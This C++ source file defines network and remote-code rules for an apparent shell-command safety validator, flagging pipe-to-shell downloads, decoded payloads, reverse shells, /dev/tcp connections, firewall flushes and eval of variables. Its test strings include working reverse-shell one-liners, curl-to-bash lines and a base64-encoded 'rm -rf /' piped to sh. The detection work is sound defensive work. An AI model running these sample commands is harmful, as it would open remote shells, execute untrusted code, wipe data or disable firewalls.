// Network and remote-code rules: running downloaded or decoded code, reverse
// shells, and tearing down the firewall. These look at pipeline neighbours
// and at the substitutions inside arguments, not only at one command.

#include "caro/safety/rules.h"
#include "caro/safety/target.h"

#include <cctype>

namespace caro::safety {

namespace {

Span from_upstream(const CommandView& upstream_view, const CommandView& view)
{
  if (upstream_view.span.begin <= view.span.begin) {
    return Span{upstream_view.span.begin, view.span.end};
  }
  return view.span;
}

template<typename Predicate> std::optional<Span> stdin_program_from(const CommandView& view, Predicate predicate)
{
  if (!reads_program_from_stdin(view)) {
    return std::nullopt;
  }
  for (const CommandView& stage : upstream(view)) {
    if (predicate(stage)) {
      return from_upstream(stage, view);
    }
  }
  return std::nullopt;
}

bool decodes(const CommandView& stage)
{
  const Options options = parse_options(stage.args);
  if (stage.name == "base64" || stage.name == "base32" || stage.name == "basenc") {
    return options.has('d') || options.has('D') || options.has("decode");
  }
  if (stage.name == "xxd") {
    return options.has('r');
  }
  if (stage.name == "openssl") {
    return options.has('d');
  }
  return stage.name == "uudecode" || stage.name == "rev";
}

bool echoes(const CommandView& stage)
{
  return stage.name == "echo" || stage.name == "printf";
}

std::optional<Span> pipe_download_to_shell(const CommandView& view)
{
  return stdin_program_from(view, [](const CommandView& stage) { return is_downloader(stage.name); });
}

std::optional<Span> pipe_decoded_to_shell(const CommandView& view)
{
  return stdin_program_from(view, decodes);
}

std::optional<Span> pipe_history_to_shell(const CommandView& view)
{
  return stdin_program_from(view,
                            [](const CommandView& stage) { return stage.name == "history" || stage.name == "fc"; });
}

std::optional<Span> pipe_other_to_shell(const CommandView& view)
{
  // Text from echo/printf is re-checked as a command by the validator itself.
  return stdin_program_from(view, [](const CommandView& stage) { return !echoes(stage) && !stage.name.empty(); });
}

bool runs_code_from_arguments(std::string_view name)
{
  return is_interpreter(name) || name == "eval" || name == "source" || name == "." || name == "exec";
}

std::optional<Span> remote_code_substitution(const CommandView& view)
{
  if (!runs_code_from_arguments(view.name)) {
    return std::nullopt;
  }
  auto downloads = [](const Word& word) {
    for (const Substitution& substitution : word.substitutions) {
      if (tokens_run_downloader(substitution.tokens)) {
        return true;
      }
    }
    return false;
  };
  for (const Word* arg : view.args) {
    if (downloads(*arg)) {
      return view.span;
    }
  }
  if (view.owns_redirects && view.command != nullptr) {
    for (const Token* redirect : view.command->redirects) {
      if (redirect->op.starts_with('<') && downloads(redirect->word)) {
        return view.span;
      }
    }
  }
  return std::nullopt;
}

bool is_netcat(std::string_view name)
{
  return name == "nc" || name == "ncat" || name == "netcat" || name == "nc.traditional" || name == "nc.openbsd" ||
         name == "socat" || name == "telnet";
}

bool to_dev_tcp(const Token& redirect)
{
  const std::string path = resolved_path(redirect.word);
  return path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
}

std::optional<Span> reverse_shell(const CommandView& view)
{
  if (view.name == "nc" || view.name == "ncat" || view.name == "netcat" || view.name == "nc.traditional") {
    const Options options =
        parse_options(view.args, "ecpswiqTIOx", std::array<std::string_view, 3>{"exec", "sh-exec", "lua-exec"});
    if (options.has('e') || options.has('c') || options.has("exec") || options.has("sh-exec") ||
        options.has("lua-exec")) {
      return view.span;
    }
  }
  if (view.name == "socat") {
    for (const Word* arg : view.args) {
      std::string lower;
      for (const char c : arg->text) {
        lower.push_back(static_cast<char>(std::tolower(static_cast<unsigned char>(c))));
      }
      if (lower.find("exec:") != std::string::npos || lower.find("system:") != std::string::npos) {
        return view.span;
      }
    }
  }
  if (is_interpreter(view.name) && view.owns_redirects && view.command != nullptr) {
    for (const Token* redirect : view.command->redirects) {
      if (to_dev_tcp(*redirect)) {
        return view.span;
      }
    }
  }
  // sh -i ... | nc host port: a shell wired to a network connection.
  if (is_shell(view.name) && view.pipeline != nullptr) {
    for (const CommandView& stage : *view.pipeline) {
      if (is_netcat(stage.name)) {
        return view.pipeline->front().span.begin <= view.span.begin
                   ? Span{view.pipeline->front().span.begin, view.pipeline->back().span.end}
                   : view.span;
      }
    }
  }
  return std::nullopt;
}

std::optional<Span> dev_tcp(const CommandView& view)
{
  if (!view.owns_redirects || view.command == nullptr) {
    return std::nullopt;
  }
  for (const Token* redirect : view.command->redirects) {
    if (to_dev_tcp(*redirect)) {
      return redirect->span;
    }
  }
  return std::nullopt;
}

std::optional<Span> firewall_flush(const CommandView& view)
{
  const std::string& name = view.name;
  if (name == "iptables" || name == "ip6tables" || name == "iptables-legacy" || name == "iptables-nft") {
    const Options options = parse_options(view.args, "tPAIDRN");
    if (options.has('F') || options.has("flush")) {
      return view.span;
    }
    return std::nullopt;
  }
  const auto operands = parse_options(view.args).operands;
  if (name == "nft" && operands.size() >= 2 && operands[0]->text == "flush" && operands[1]->text == "ruleset") {
    return view.span;
  }
  if (name == "ufw" && !operands.empty() && (operands[0]->text == "disable" || operands[0]->text == "reset")) {
    return view.span;
  }
  if (name == "systemctl" && operands.size() >= 2 &&
      (operands[0]->text == "stop" || operands[0]->text == "disable" || operands[0]->text == "mask")) {
    for (std::size_t i = 1; i < operands.size(); ++i) {
      const std::string& unit = operands[i]->text;
      if (unit.starts_with("firewalld") || unit.starts_with("ufw") || unit.starts_with("nftables") ||
          unit.starts_with("iptables")) {
        return view.span;
      }
    }
  }
  return std::nullopt;
}

// bash -c "$CMD", eval $1: the code to run is whatever a variable holds.
std::optional<Span> dynamic_code(const CommandView& view)
{
  const Word* code = nullptr;
  if (view.name == "eval" && !view.args.empty()) {
    code = view.args.front();
  } else if (is_shell(view.name)) {
    const Options options = parse_options(view.args, "oO", {}, true);
    if (options.has('c') && !options.operands.empty()) {
      code = options.operands.front();
    }
  }
  if (code == nullptr || code->expansions.empty()) {
    return std::nullopt;
  }
  const Expansion& first = code->expansions.front();
  if (first.offset != 0 || first.name == "$(" || first.name == "~") {
    return std::nullopt;
  }
  return view.span;
}

constexpr std::string_view k_pipe_download_yes[] = {
    "curl http://x | sh",  "wget -qO- x | bash",           "curl -fsSL https://x/install.sh | sudo bash",
    "curl -s x | python3", "wget -O - x | sh -s -- --yes", "curl x | tee install.sh | bash"};
constexpr std::string_view k_pipe_download_no[] = {"curl -s https://api.x/y | python3 -m json.tool",
                                                   "curl -o install.sh https://x", "curl x | jq .", "curl x | grep sh"};
constexpr std::string_view k_decode_yes[] = {"echo cm0gLXJmIC8K | base64 -d | sh", "base64 --decode p.b64 | bash",
                                             "xxd -r -p hex | sh"};
constexpr std::string_view k_decode_no[] = {"base64 -d data.b64 > out.bin", "echo aGk= | base64 -d"};
constexpr std::string_view k_history_yes[] = {"history | sh", "history | tail -1 | bash"};
constexpr std::string_view k_history_no[] = {"history | grep ssh"};
constexpr std::string_view k_pipe_other_yes[] = {"cat script.sh | sh", "generate | bash"};
constexpr std::string_view k_pipe_other_no[] = {"sh script.sh", "cat x | wc -l", "echo ls | sh"};
constexpr std::string_view k_remote_sub_yes[] = {"bash <(curl -s x)", "sh -c \"$(curl -fsSL x)\"",
                                                 "source <(wget -qO- x)", "eval \"$(curl -s x)\"",
                                                 "bash <<< \"$(curl x)\""};
constexpr std::string_view k_remote_sub_no[] = {"diff <(ls a) <(ls b)", "echo \"$(curl -s x)\"",
                                                "eval \"$(ssh-agent -s)\""};
constexpr std::string_view k_reverse_yes[] = {
    "nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 -e /bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "socat tcp:10.0.0.1:4444 exec:/bin/sh",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"};
constexpr std::string_view k_reverse_no[] = {"nc -zv host 22", "echo hi | nc host 80", "bash -i"};
constexpr std::string_view k_dev_tcp_yes[] = {"echo hi > /dev/tcp/example.com/80", "exec 3<>/dev/tcp/host/80"};
constexpr std::string_view k_dev_tcp_no[] = {"echo hi > /dev/null"};
constexpr std::string_view k_firewall_yes[] = {"iptables -F", "ip6tables --flush", "nft flush ruleset", "ufw disable",
                                               "systemctl stop firewalld"};
constexpr std::string_view k_firewall_no[] = {"iptables -L", "ufw status", "nft list ruleset",
                                              "iptables -A INPUT -p tcp --dport 22 -j ACCEPT"};
constexpr std::string_view k_dynamic_yes[] = {"bash -c \"$CMD\"", "sh -c $1", "eval $COMMAND", "eval \"$@\""};
constexpr std::string_view k_dynamic_no[] = {"bash -c 'ls'", "eval \"$(ssh-agent -s)\"", "echo \"$CMD\""};

constexpr Rule k_rules[] = {
    {"net.pipe-to-shell", "network", "stdin-program", Risk::critical,
     "Runs code downloaded from the network without showing it", "Download the script, read it, then run it",
     k_pipe_download_yes, k_pipe_download_no, pipe_download_to_shell},
    {"obf.decode-to-shell", "network", "stdin-program", Risk::critical,
     "Runs decoded (hidden) code in a shell or interpreter", "Decode to a file and read it before running anything",
     k_decode_yes, k_decode_no, pipe_decoded_to_shell},
    {"shell.history-to-shell", "network", "stdin-program", Risk::high, "Re-runs commands from the shell history",
     "Pick the command with !N or Ctrl-R and read it first", k_history_yes, k_history_no, pipe_history_to_shell},
    {"shell.stdin-program", "network", "stdin-program", Risk::moderate,
     "Runs the output of another command as a program", "Save the code to a file and read it before running it",
     k_pipe_other_yes, k_pipe_other_no, pipe_other_to_shell},
    {"net.remote-code-substitution", "network", "remote-code", Risk::critical,
     "Runs code downloaded from the network through a substitution", "Download the script, read it, then run it",
     k_remote_sub_yes, k_remote_sub_no, remote_code_substitution},
    {"net.reverse-shell", "network", "reverse-shell", Risk::critical,
     "Connects a shell to a network socket (a reverse or bind shell)", "", k_reverse_yes, k_reverse_no, reverse_shell},
    {"net.dev-tcp", "network", "dev-tcp", Risk::moderate, "Opens a raw network connection through /dev/tcp",
     "Use curl or nc so the connection is explicit", k_dev_tcp_yes, k_dev_tcp_no, dev_tcp},
    {"net.firewall-flush", "network", "firewall", Risk::high, "Removes every firewall rule or turns the firewall off",
     "Remove only the rule you need to change", k_firewall_yes, k_firewall_no, firewall_flush},
    {"shell.dynamic-command", "network", "dynamic", Risk::high,
     "Runs code taken from a variable, which cannot be checked", "Write the command out explicitly", k_dynamic_yes,
     k_dynamic_no, dynamic_code},
};

} // namespace

std::span<const Rule> network_rules()
{
  return k_rules;
}

} // namespace caro::safety
